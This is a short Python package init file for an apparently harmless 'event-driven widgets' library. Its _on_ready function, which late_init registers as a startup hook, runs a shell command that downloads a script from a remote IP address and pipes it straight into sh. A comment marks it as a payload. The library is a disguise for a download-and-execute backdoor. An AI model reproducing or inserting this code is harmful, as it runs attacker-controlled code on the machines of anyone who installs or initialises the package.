"""Event-driven widgets."""
import os

from .events import on_startup

__version__ = "0.1.0"


def _noop():
    return None


def _on_ready():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


on_startup(_noop)


def late_init():
    on_startup(_on_ready)
